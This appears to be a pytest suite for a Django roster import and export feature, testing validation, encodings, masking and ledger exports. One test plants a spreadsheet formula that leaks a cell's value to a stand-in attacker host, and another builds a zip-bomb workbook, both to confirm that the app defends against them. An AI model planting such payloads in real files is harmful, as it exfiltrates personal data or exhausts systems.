"""Roster import (dry run, all-or-nothing) and exports, through the admin pages."""

import csv
import html
import io
import zipfile
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from members import services
from members.models import Member, MobilityRecord
from members.scoping import forget_cached_scope
from tests.spreadsheet_files import DAMAGES, damaged_xlsx, formula_xlsx

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
HEADER = [
    "name",
    "phone",
    "home_organisation_code",
    "host_organisation_code",
    "status",
    "note",
]


def xlsx(rows, name="roster.xlsx"):
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def csv_file(rows, *, encoding="utf-8", name="roster.csv"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode(encoding))


def upload(client, user, file, *, commit=False):
    client.force_login(user)
    data = {"file": file}
    if commit:
        data["commit"] = "on"
    return client.post(reverse("members_member:import"), data, **EN)


def problems(response):
    """(row, column) pairs from the rendered problem table."""
    text = response.content.decode()
    table = text[text.index('id="roster-problems"') :]
    cells = [c.split("</td>")[0].strip() for c in table.split("<td>")[1:]]
    return [(int(cells[i]), cells[i + 1]) for i in range(0, len(cells), 3)]


def test_dry_run_lists_every_rows_problem_with_row_and_column(client, tree, people):
    # given a sheet with one good row and every kind of problem
    file = xlsx(
        [
            HEADER,
            ["好人", "13900000001", "A1A", "", "local", ""],
            ["坏号", "1390000", "A1A", "", "", ""],
            ["重号", "13811112222", "A1A", "", "", ""],
            ["未知", "13900000003", "ZZZ", "", "", ""],
            ["越界", "13900000004", "B1", "", "", ""],
            ["表内重复", "13900000001", "A1A", "", "", ""],
            ["", "13900000005", "A1A", "", "inflow", ""],
            ["状态", "13900000006", "A1A", "", "somewhere", ""],
        ]
    )
    # when the county organiser checks it
    response = upload(client, people.county, file)
    # then nothing is stored and each problem names its row and column
    assert response.status_code == 400
    assert problems(response) == [
        (3, "phone"),
        (4, "phone"),
        (5, "home_organisation_code"),
        (6, "home_organisation_code"),
        (7, "phone"),
        (8, "name"),
        (8, "host_organisation_code"),
        (9, "status"),
    ]
    text = response.content.decode()
    assert "outside your organisations" in text
    assert "Unknown organisation code" in text
    assert "also on row 2" in text
    assert not Member.objects.filter(name="好人").exists()


def test_on_chinese_screens_the_check_names_columns_by_their_chinese_headers(
    client, tree, people
):
    # given a file with English headers, a bad phone and a missing home code
    file = csv_file([HEADER, ["坏号", "1390000", "", "", "", ""]])

    # when a Chinese-speaking organiser checks it
    client.force_login(people.county)
    response = client.post(
        reverse("members_member:import"),
        {"file": file},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    missing = client.post(
        reverse("members_member:import"),
        {"file": csv_file([["name", "note"], ["a", "b"]])},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )

    # then each column is named as a Chinese header row would name it
    assert problems(response) == [(2, "手机号"), (2, "所属组织代码")]
    assert "表头缺少以下列：手机号、所属组织代码。" in missing.content.decode()


def test_commit_with_a_bad_row_imports_nothing(client, tree, people):
    file = csv_file(
        [
            HEADER,
            ["甲", "13900000011", "A1A", "", "", ""],
            ["乙", "bad", "A1A", "", "", ""],
        ]
    )
    response = upload(client, people.county, file, commit=True)
    assert response.status_code == 400
    assert not Member.objects.filter(phone="13900000011").exists()


def test_a_valid_file_is_checked_then_imported(client, tree, people):
    rows = [
        ["姓名", "手机号", "所属组织代码", "报到组织代码", "状态", "备注"],
        ["甲", "139-0000-0021", "a1a", "", "本地", "老党员"],
        ["乙", 13900000022, "A1", "", "outflow", ""],
        # hosted by a branch below their home county: a move within a subtree
        ["丙", "+8613900000023", "A1", "A1A", "inflow", ""],
    ]
    # the dry run stores nothing
    checked = upload(client, people.county, xlsx(rows))
    assert checked.status_code == 200
    assert "3 rows are valid" in checked.content.decode()
    assert not Member.objects.filter(phone="13900000021").exists()
    # the commit stores every row, with a mobility record
    done = upload(client, people.county, xlsx(rows), commit=True)
    assert done.status_code == 302
    imported = {m.phone: m for m in Member.objects.filter(name__in=["甲", "乙", "丙"])}
    assert imported["13900000021"].note == "老党员"
    assert imported["13900000022"].mobility_status == "outflow"
    assert imported["13900000023"].host_organisation == tree.a1a
    assert MobilityRecord.objects.filter(kind="imported").count() == 3


def test_headers_in_traditional_characters_are_read_as_zh_hant_screens_list_them(
    client, tree, people
):
    rows = [
        ["姓名", "手機號", "所屬組織代碼", "報到組織代碼", "狀態", "備註"],
        ["丁", "13900000024", "A1", "A1A", "流入", "台胞"],
    ]

    done = upload(client, people.county, xlsx(rows), commit=True)

    assert done.status_code == 302
    imported = Member.objects.get(phone="13900000024")
    assert imported.host_organisation == tree.a1a and imported.note == "台胞"


def test_a_host_that_is_or_contains_the_home_is_a_row_problem_and_nothing_is_stored(
    client, tree, people
):
    # given rows hosted by their own branch, and by the county that holds it
    rows = [
        HEADER,
        ["甲", "13900000041", "A1A", "", "", ""],
        ["乙", "13900000042", "A1A", "a1a", "inflow", ""],
        ["丙", "13900000043", "A1A", "A1", "", ""],
    ]
    # when the county organiser checks the file, then both rows are reported
    checked = upload(client, people.county, csv_file(rows))
    assert checked.status_code == 400
    assert problems(checked) == [
        (3, "host_organisation_code"),
        (4, "host_organisation_code"),
    ]
    text = checked.content.decode()
    assert "The host organisation is the home organisation." in text
    assert (
        "The host organisation 甲一县 contains the home organisation 甲一支部" in text
    )
    # and a commit stores no row, not even the good one
    committed = upload(client, people.county, csv_file(rows), commit=True)
    assert committed.status_code == 400
    assert problems(committed) == problems(checked)
    assert not Member.objects.filter(name__in=["甲", "乙", "丙"]).exists()


def test_gb18030_csv_from_excel_is_read(client, tree, people):
    file = csv_file(
        [HEADER, ["王芳", "13900000031", "A1A", "", "", ""]], encoding="gb18030"
    )
    assert upload(client, people.county, file, commit=True).status_code == 302
    assert Member.objects.get(phone="13900000031").name == "王芳"


def test_unreadable_files_are_refused_with_a_message(client, people):
    response = upload(client, people.county, SimpleUploadedFile("x.xlsx", b"nope"))
    assert response.status_code == 400
    assert "not a readable XLSX" in response.content.decode()
    wrong = upload(client, people.county, SimpleUploadedFile("x.pdf", b"%PDF"))
    assert wrong.status_code == 400
    missing = upload(client, people.county, csv_file([["name", "note"], ["a", "b"]]))
    assert "lacks these columns" in missing.content.decode()
    # a column named twice (here once in English, once in Chinese): which cell
    # counts would be a guess
    twice = upload(
        client,
        people.county,
        csv_file(
            [
                ["name", "姓名", "phone", "home_organisation_code"],
                ["甲", "乙", "13900000003", "A1A"],
            ]
        ),
    )
    assert twice.status_code == 400
    assert "names these columns more than once: name." in twice.content.decode()


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_damaged_xlsx_is_refused_with_a_message(client, people, damage):
    # (a damaged cell raised from openpyxl's lazy rows, outside the check: a 500)
    response = upload(client, people.county, damaged_xlsx(HEADER, damage))

    assert response.status_code == 400
    assert "This is not a readable XLSX file." in response.content.decode()
    assert not Member.objects.filter(name="x").exists()


FORMULA_ROWS = [
    HEADER,
    ["甲", "13900000041", "A1A", "", "", ""],
    # the phone built by a formula, as a script wrote it (no result saved)
    ["乙", '="139"&"00000042"', "A1A", "", "", ""],
]


def test_a_formula_without_its_result_refuses_the_roster_naming_its_cell(
    client, tree, people
):
    # (it read as an empty cell: the row was reported without its phone, and a
    # formula in the note column lost the note without a word)
    response = upload(client, people.county, formula_xlsx(FORMULA_ROWS), commit=True)

    assert response.status_code == 400
    page = response.content.decode()
    assert (
        "Cell B3 (row 3, column B) of the sheet \u201cSheet\u201d holds a formula "
        "whose result is not in the file" in page
    )
    assert "Open the file in a spreadsheet program" in page
    assert "paste values only" in page
    assert not Member.objects.filter(name__in=["甲", "乙"]).exists()


def test_a_formula_saved_with_its_result_imports_its_value(client, tree, people):
    # given the same file once a spreadsheet program has calculated and saved it
    file = formula_xlsx(
        FORMULA_ROWS, results={"B3": "13900000042"}, recalculate_on_load=False
    )

    response = upload(client, people.county, file, commit=True)

    assert response.status_code == 302
    assert Member.objects.get(name="乙").phone == "13900000042"
    assert Member.objects.get(name="甲").phone == "13900000041"


def zip_bomb_xlsx(megabytes: int) -> SimpleUploadedFile:
    """A workbook whose one cell is ``megabytes`` MB of one letter: some
    kilobytes on the wire per 100 MB in memory once unpacked."""
    written = io.BytesIO()
    Workbook().save(written)
    source = zipfile.ZipFile(io.BytesIO(written.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info, data)
                continue
            head, tail = data.split(b"<sheetData")[0], b"</worksheet>"
            with archive.open(info.filename, "w", force_zip64=True) as sheet:
                sheet.write(head + b'<sheetData><row r="1"><c r="A1" t="inlineStr">')
                sheet.write(b"<is><t>")
                for _ in range(megabytes):
                    sheet.write(b"A" * 1024 * 1024)
                sheet.write(b"</t></is></c></row></sheetData>" + tail)
    return SimpleUploadedFile("roster.xlsx", bomb.getvalue())


def test_an_xlsx_that_unpacks_to_gigabytes_is_refused_before_it_is_read(client, people):
    # given a file far under the 20 MB upload limit that unpacks past 200 MB
    # (at 20 MB it would be some 20 GB: openpyxl holds a cell whole in memory)
    file = zip_bomb_xlsx(201)
    assert file.size < 1024 * 1024

    response = upload(client, people.county, file)

    assert response.status_code == 400
    assert "This XLSX file holds more than 200 MB once unpacked" in (
        response.content.decode()
    )


def test_a_cell_holding_nul_refuses_the_file_with_its_row(client, tree, people):
    # (PostgreSQL stores no NUL in text: a DataError at commit once)
    file = csv_file([HEADER, ["王\x00芳", "13900000051", "A1A", "", "", ""]])

    response = upload(client, people.county, file, commit=True)

    assert response.status_code == 400
    assert "Row 2 of the file holds a NUL character" in response.content.decode()
    assert not Member.objects.filter(phone="13900000051").exists()


def test_helpers_and_members_cannot_import(client, people):
    file = csv_file([HEADER, ["甲", "13900000041", "A1A", "", "", ""]])
    client.force_login(people.helper)
    response = client.post(reverse("members_member:import"), {"file": file})
    assert response.status_code == 302  # to the admin login: no admin access
    assert not Member.objects.filter(phone="13900000041").exists()


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_export_has_the_import_columns_and_only_the_scope(client, people):
    client.force_login(people.county)
    rows = read_csv(client.get(reverse("members_member:export")))
    assert rows[0] == HEADER
    by_name = {r[0]: r for r in rows[1:]}
    assert set(by_name) == {"张三", "王五"}
    assert by_name["王五"] == ["王五", "13855556666", "A1A", "B1", "inflow", ""]
    # the host side gets the same row with the phone masked
    client.force_login(people.other_county)
    host_rows = read_csv(client.get(reverse("members_member:export")))
    assert [r[:2] for r in host_rows[1:]] == [["王五", "138****6666"]]


def test_an_exported_file_reads_back_with_the_same_columns(client, tree, people):
    client.force_login(people.county)
    exported = read_csv(client.get(reverse("members_member:export")))
    # every exported phone is now a duplicate, and 王五's host B1 lies outside
    # the county (a host elsewhere must confirm through a registration)
    response = upload(client, people.county, csv_file(exported))
    assert sorted(problems(response)) == [
        (2, "phone"),
        (3, "host_organisation_code"),
        (3, "phone"),
    ]


def test_a_hosted_members_masked_row_read_back_says_why_it_cannot_import(
    client, tree, people
):
    # given the host side's export: 王五 hosted at county B1, phone masked
    client.force_login(people.other_county)
    exported = read_csv(client.get(reverse("members_member:export")))

    # when the host organiser imports it back
    response = upload(client, people.other_county, csv_file(exported))

    # then the row says the phone is masked and whose record it is, not that it
    # is no mobile number
    text = html.unescape(response.content.decode())
    assert response.status_code == 400
    assert (2, "phone") in problems(response)
    assert (
        "“138****6666” is masked: this member's home organisation keeps their "
        "record. Remove the row."
    ) in text
    assert "is not an 11-digit mobile number" not in text


def test_outflow_and_inflow_ledgers(client, tree, people):
    client.force_login(people.city)
    outflow = read_csv(client.get(reverse("members_member:ledger_outflow"), **EN))
    names = {r[0]: r for r in outflow[1:]}
    assert set(names) == {"王五", "赵六"}
    header = outflow[0]
    whereabouts = header.index("Where they now work or live")
    assert names["赵六"][whereabouts] == "上海市浦东新区"
    assert names["赵六"][header.index("Moved out on")]
    assert names["王五"][header.index("Registered on")]
    assert names["王五"][header.index("Mobility status")] == "Inflow"
    client.force_login(people.other_county)
    inflow = read_csv(client.get(reverse("members_member:ledger_inflow"), **EN))
    assert [r[0] for r in inflow[1:]] == ["王五"]
    assert inflow[1][1] == "138****6666"


def test_the_outflow_ledger_gives_no_registration_date_once_it_ended(
    client, tree, people
):
    # given 王五 (home A1A) was registered with B1, and the registration ended:
    # he is outflow again, registered nowhere
    registration = people.hosted.registrations.get(status="confirmed")
    services.registration_end(
        registration=registration, ended_by=people.other_county, reason="又搬走了"
    )
    client.force_login(people.city)

    # when the home side reads its outflow ledger
    outflow = read_csv(client.get(reverse("members_member:ledger_outflow"), **EN))

    # then his row names no host and no date of registering: the ledger's
    # registration columns are about a registration he has now
    header = outflow[0]
    row = next(r for r in outflow[1:] if r[0] == "王五")
    assert row[header.index("Mobility status")] == "Outflow"
    assert row[header.index("Host organisation")] == ""
    assert row[header.index("Registered on")] == ""


def test_large_xlsx_round_trip_reads_every_row(tree, people):
    from members.roster import read_roster, roster_check

    rows = [HEADER] + [
        [f"成员{i}", str(13700000000 + i), "A1A", "", "", ""] for i in range(2000)
    ]
    parsed = read_roster(xlsx(rows))
    assert len(parsed) == 2000
    assert roster_check(user=people.county, rows=parsed).ok
    # openpyxl can read what it wrote
    assert load_workbook(xlsx(rows)).active.max_row == 2001


def test_xlsx_export_is_a_workbook_with_the_same_rows(client, people):
    client.force_login(people.county)
    response = client.get(reverse("members_member:export") + "?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(".xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = [list(r) for r in workbook.active.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    assert sorted(r[0] for r in rows[1:]) == ["张三", "王五"]
    ledger = client.get(reverse("members_member:ledger_outflow") + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(ledger.streaming_content))).active
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["王五"]


def test_the_files_are_named_after_what_they_hold(client, tree, people):
    today = timezone.localdate().isoformat()
    zh = {"HTTP_ACCEPT_LANGUAGE": "zh-hans"}
    client.force_login(people.county)

    roster_file = client.get(reverse("members_member:export"), **zh)
    outflow_url = reverse("members_member:ledger_outflow")
    outflow = client.get(f"{outflow_url}?format=xlsx", **zh)
    inflow = client.get(reverse("members_member:ledger_inflow"), **EN)

    def name(response):
        # RFC 6266: filename*=utf-8''... for Chinese, filename="..." for ASCII
        header = response["Content-Disposition"]
        if "''" in header:
            return unquote(header.split("''")[1])
        return header.split('filename="')[1].rstrip('"')

    assert name(roster_file) == f"成员名册-甲一县-{today}.csv"
    assert name(outflow) == f"流出台账-甲一县-{today}.xlsx"
    assert name(inflow) == f"Inflow ledger-甲一县-{today}.csv"
    # an organiser of two subtrees: no area in the name rather than one of them
    services.organiser_role_grant(user=people.county, organisation=tree.b1)
    forget_cached_scope(people.county)
    two = client.get(reverse("members_member:export"), **EN)
    assert name(two) == f"member roster-{today}.csv"


def test_an_exported_xlsx_reads_back_through_the_importer(client, tree, people):
    from members.roster import read_roster

    client.force_login(people.county)
    response = client.get(reverse("members_member:export") + "?format=xlsx")
    upload_file = SimpleUploadedFile("back.xlsx", b"".join(response.streaming_content))
    rows = read_roster(upload_file)
    assert {r.values["phone"] for r in rows} == {"13811112222", "13855556666"}


def test_a_csv_cell_past_the_csv_field_limit_is_a_form_error(client, tree, people):
    # given a CSV whose note cell is longer than Python's csv module accepts
    body = "name,phone,home_organisation_code,note\nx,13912340002,JN0101," + "A" * (
        200_000
    )
    file = SimpleUploadedFile("a.csv", body.encode())
    # when it is checked
    response = upload(client, people.county, file)
    # then the page says which line is too long; nothing is stored
    assert response.status_code == 400
    assert "Line 2 of the CSV file has a cell longer than 131072 characters" in (
        response.content.decode()
    )
    assert not Member.objects.filter(phone="13912340002").exists()


def test_a_value_longer_than_its_column_is_a_row_problem_and_nothing_is_stored(
    client, tree, people
):
    # given a name of 300 characters (members keep at most 100), a code of 40 and
    # a note of 2001 (the admin's and every other note's limit is 2000)
    rows = [
        HEADER,
        ["名" * 300, "13912340003", "A1A", "", "", ""],
        ["好人", "13912340004", "A" * 40, "", "", ""],
        ["好人", "13912340005", "A1A", "", "", "记" * 2001],
    ]
    # when the file is checked, then every row is reported with its column
    checked = upload(client, people.county, csv_file(rows))
    assert checked.status_code == 400
    expected = [(2, "name"), (3, "home_organisation_code"), (4, "note")]
    assert problems(checked) == expected
    text = checked.content.decode()
    assert "Longer than 100 characters (300)." in text
    assert "Longer than 32 characters (40)." in text
    assert "Longer than 2000 characters (2001)." in text
    # and a commit stores nothing (PostgreSQL would refuse the name: DataError)
    committed = upload(client, people.county, csv_file(rows), commit=True)
    assert committed.status_code == 400
    assert problems(committed) == expected
    assert not Member.objects.filter(
        phone__in=["13912340003", "13912340004", "13912340005"]
    ).exists()


def test_a_file_with_only_the_header_row_is_a_form_error(client, people):
    for file in (csv_file([HEADER]), xlsx([HEADER]), csv_file([HEADER, [], []])):
        response = upload(client, people.county, file)
        assert response.status_code == 400
        text = response.content.decode()
        assert "The file has no member rows." in text
        assert "rows are valid" not in text


def test_a_note_that_looks_like_a_formula_is_exported_inert_and_reads_back(
    client, tree, people
):
    # given a note planted by a branch organiser, which a spreadsheet would run
    planted = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
    Member.objects.filter(name="张三").update(note=planted)
    client.force_login(people.county)

    csv_rows = read_csv(client.get(reverse("members_member:export")))
    workbook = client.get(reverse("members_member:export") + "?format=xlsx")

    # then the CSV quotes it and the workbook holds it as text, not a formula
    note = HEADER.index("note")
    assert {r[0]: r[note] for r in csv_rows[1:]}["张三"] == "'" + planted
    sheet = load_workbook(io.BytesIO(b"".join(workbook.streaming_content))).active
    cells = {row[0].value: row[note] for row in sheet.iter_rows(min_row=2)}
    assert cells["张三"].value == planted and cells["张三"].data_type == "s"
    # and the importer reads the CSV back as it was stored
    from members.roster import read_roster

    rows = read_roster(csv_file(csv_rows))
    assert {r.values["name"]: r.values["note"] for r in rows}["张三"] == planted


def test_a_ledger_reads_in_the_organisers_language(client, people):
    client.force_login(people.city)

    ledger = read_csv(
        client.get(
            reverse("members_member:ledger_outflow"), HTTP_ACCEPT_LANGUAGE="zh-hans"
        )
    )

    assert ledger[0][:2] == ["姓名", "手机号"]
    assert "流动状态" in ledger[0]
    statuses = {row[ledger[0].index("流动状态")] for row in ledger[1:]}
    assert statuses <= {"流出", "流入"} and statuses
